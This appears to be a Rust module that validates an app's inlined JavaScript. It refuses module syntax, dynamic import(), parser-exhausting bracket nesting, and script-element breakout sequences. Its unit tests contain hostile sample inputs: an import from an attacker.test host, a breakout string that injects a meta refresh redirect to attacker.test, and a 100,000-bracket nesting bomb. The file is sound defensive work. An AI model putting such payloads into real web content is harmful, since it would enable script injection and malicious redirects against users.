//! Script rules: an app's scripts are classic scripts, parsed with a real
//! JavaScript parser (oxc). They may not use `import`/`export`, dynamic
//! `import()` or `import.meta` (the resource is one document with no module
//! graph), and may not contain the sequences that would end or re-enter the
//! `<script>` element they are inlined into (`</script`, `<script`, `<!--`).
//!
//! Checks for `eval`, `Function` and the like are deliberately absent: they
//! would be advisory (an app can always build an interpreter); the resource's
//! CSP, which has no `'unsafe-eval'`, blocks them at run time.

use oxc_allocator::Allocator;
use oxc_parser::Parser;
use oxc_span::SourceType;

use crate::diagnostics::{Diagnostics, line_of};

/// Deepest bracket nesting a script may have. The parser recurses per level, so
/// a hostile script (100k `[`) is refused before it is parsed.
pub const MAX_JS_DEPTH: usize = 500;

/// Records every script-rule violation of the script `text` at package path `file`.
pub fn check_js(file: &str, text: &str, diagnostics: &mut Diagnostics) {
    check_inline_breakouts(file, text, diagnostics);
    if let Some(offset) = too_deep_at(text) {
        diagnostics.push(
            file,
            Some(line_of(text, offset)),
            "JS_TOO_DEEP",
            format!("brackets are nested more than {MAX_JS_DEPTH} levels deep"),
        );
        return;
    }

    let allocator = Allocator::default();
    let parsed = Parser::new(&allocator, text, SourceType::script()).parse();
    let record = &parsed.module_record;
    if record.has_module_syntax || !record.import_metas.is_empty() {
        report_module_syntax(file, text, record, diagnostics);
        return;
    }
    if parsed.panicked || parsed.diagnostics.has_errors() {
        // A module-only construct may be a syntax error in a script; say so precisely.
        let module_allocator = Allocator::default();
        let module = Parser::new(&module_allocator, text, SourceType::mjs()).parse();
        if !module.panicked
            && !module.diagnostics.has_errors()
            && (module.module_record.has_module_syntax
                || !module.module_record.import_metas.is_empty())
        {
            report_module_syntax(file, text, &module.module_record, diagnostics);
            return;
        }
        let error = parsed.diagnostics.errors().next();
        let offset = error
            .and_then(|error| error.labels.first().map(|label| label.offset() as usize))
            .unwrap_or(0);
        let message = error
            .map(|error| error.message.to_string())
            .unwrap_or_default();
        diagnostics.push(
            file,
            Some(line_of(text, offset)),
            "JS_SYNTAX",
            format!(
                "the script does not parse: {}",
                message.to_lowercase().trim_end_matches('.')
            ),
        );
        return;
    }
    for dynamic in parsed.module_record.dynamic_imports.iter() {
        diagnostics.push(
            file,
            Some(line_of(text, dynamic.span.start as usize)),
            "JS_DYNAMIC_IMPORT",
            "import() cannot load code: the resource has no network and no module graph",
        );
    }
}

fn report_module_syntax(
    file: &str,
    text: &str,
    record: &oxc_syntax::module_record::ModuleRecord<'_>,
    diagnostics: &mut Diagnostics,
) {
    let offset = first_module_syntax_offset(record).unwrap_or(0);
    diagnostics.push(
        file,
        Some(line_of(text, offset)),
        "JS_MODULE_SYNTAX",
        "import, export and import.meta are not available: the app is one document, so put shared code in app.js or another script loaded by index.html",
    );
}

fn first_module_syntax_offset(
    record: &oxc_syntax::module_record::ModuleRecord<'_>,
) -> Option<usize> {
    let starts = record
        .import_entries
        .iter()
        .map(|entry| entry.statement_span.start)
        .chain(
            record
                .local_export_entries
                .iter()
                .map(|entry| entry.statement_span.start),
        )
        .chain(
            record
                .indirect_export_entries
                .iter()
                .map(|entry| entry.statement_span.start),
        )
        .chain(
            record
                .star_export_entries
                .iter()
                .map(|entry| entry.statement_span.start),
        )
        .chain(record.import_metas.iter().map(|span| span.start));
    starts.min().map(|start| start as usize)
}

/// The offset where bracket nesting first exceeds [`MAX_JS_DEPTH`], skipping
/// string literals and comments. Regular expression literals are not
/// recognised; a bracket inside one only makes the estimate higher, and the
/// limit is far above what real code uses.
fn too_deep_at(text: &str) -> Option<usize> {
    let bytes = text.as_bytes();
    let mut depth = 0usize;
    let mut i = 0;
    while i < bytes.len() {
        match bytes[i] {
            b'(' | b'[' | b'{' => {
                depth += 1;
                if depth > MAX_JS_DEPTH {
                    return Some(i);
                }
            }
            b')' | b']' | b'}' => depth = depth.saturating_sub(1),
            quote @ (b'\'' | b'"' | b'`') => {
                i += 1;
                while i < bytes.len() && bytes[i] != quote {
                    if bytes[i] == b'\\' {
                        i += 1;
                    }
                    i += 1;
                }
            }
            b'/' if bytes.get(i + 1) == Some(&b'/') => {
                while i < bytes.len() && bytes[i] != b'\n' {
                    i += 1;
                }
            }
            b'/' if bytes.get(i + 1) == Some(&b'*') => {
                i += 2;
                while i + 1 < bytes.len() && !(bytes[i] == b'*' && bytes[i + 1] == b'/') {
                    i += 1;
                }
                i += 1;
            }
            _ => {}
        }
        i += 1;
    }
    None
}

/// Sequences that change the HTML tokenizer's state inside an inlined script.
const BREAKOUTS: [(&str, &str); 3] = [
    (
        "</script",
        "`</script` would end the inlined script element; write it as `<\\/script`",
    ),
    (
        "<script",
        "`<script` inside a script changes how the page is parsed; write it as `<\\script` or split the string",
    ),
    (
        "<!--",
        "`<!--` inside a script changes how the page is parsed; split the string",
    ),
];

fn check_inline_breakouts(file: &str, text: &str, diagnostics: &mut Diagnostics) {
    let lower = text.to_ascii_lowercase();
    for (needle, reason) in BREAKOUTS {
        if let Some(offset) = lower.find(needle) {
            diagnostics.push(
                file,
                Some(line_of(text, offset)),
                "JS_INLINE_BREAKOUT",
                reason,
            );
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn check(text: &str, expected: &[(&str, u32)]) {
        let mut diagnostics = Diagnostics::new();
        check_js("app.js", text, &mut diagnostics);
        let got: Vec<(String, u32)> = diagnostics
            .iter()
            .map(|d| (d.code.clone(), d.line.unwrap_or(0)))
            .collect();
        let expected: Vec<(String, u32)> = expected
            .iter()
            .map(|(code, line)| ((*code).to_owned(), *line))
            .collect();
        assert_eq!(got, expected, "{text}");
    }

    #[test]
    fn ordinary_scripts_pass() {
        check(
            "const total = [1, 2].reduce((a, b) => a + b, 0);\nwindow.Sasha;",
            &[],
        );
        check(
            "async function load() { const rows = await Sasha.data.list('entries', {}); return rows; }",
            &[],
        );
        check("var x = 1 < 2 && 3 > 2; // comparison, not markup", &[]);
        check(
            "'use strict';\nclass A { #p = 1; get p() { return this.#p; } }",
            &[],
        );
    }

    #[test]
    fn module_syntax_is_refused_with_its_line() {
        check(
            "const a = 1;\nimport x from './x.js';",
            &[("JS_MODULE_SYNTAX", 2)],
        );
        check("export const a = 1;", &[("JS_MODULE_SYNTAX", 1)]);
        check(
            "\n\nconsole.log(import.meta.url);",
            &[("JS_MODULE_SYNTAX", 3)],
        );
    }

    #[test]
    fn dynamic_import_is_refused() {
        check(
            "async function f() {\n  await import('https://attacker.test/x.js');\n}",
            &[("JS_DYNAMIC_IMPORT", 2)],
        );
    }

    #[test]
    fn syntax_errors_name_the_line() {
        check("let a = 1;\nlet = = 2;", &[("JS_SYNTAX", 2)]);
    }

    #[test]
    fn hostile_nesting_is_refused_before_parsing() {
        check(&"[".repeat(100_000), &[("JS_TOO_DEEP", 1)]);
        check(
            &format!("const a = {}1{};", "(".repeat(400), ")".repeat(400)),
            &[],
        );
        // Brackets in strings and comments do not count.
        check(
            &format!("const s = '{}'; // {}", "[".repeat(1000), "(".repeat(1000)),
            &[],
        );
    }

    #[test]
    fn inline_breakouts_are_refused() {
        check(
            "const s = '</script><meta http-equiv=refresh content=\"0;url=https://attacker.test\">';",
            &[("JS_INLINE_BREAKOUT", 1)],
        );
        check(
            "const s = '<!--<script>';",
            &[("JS_INLINE_BREAKOUT", 1), ("JS_INLINE_BREAKOUT", 1)],
        );
        check("const s = '</SCRIPT>';", &[("JS_INLINE_BREAKOUT", 1)]);
        check("const s = '<\\/script>';", &[]);
    }
}
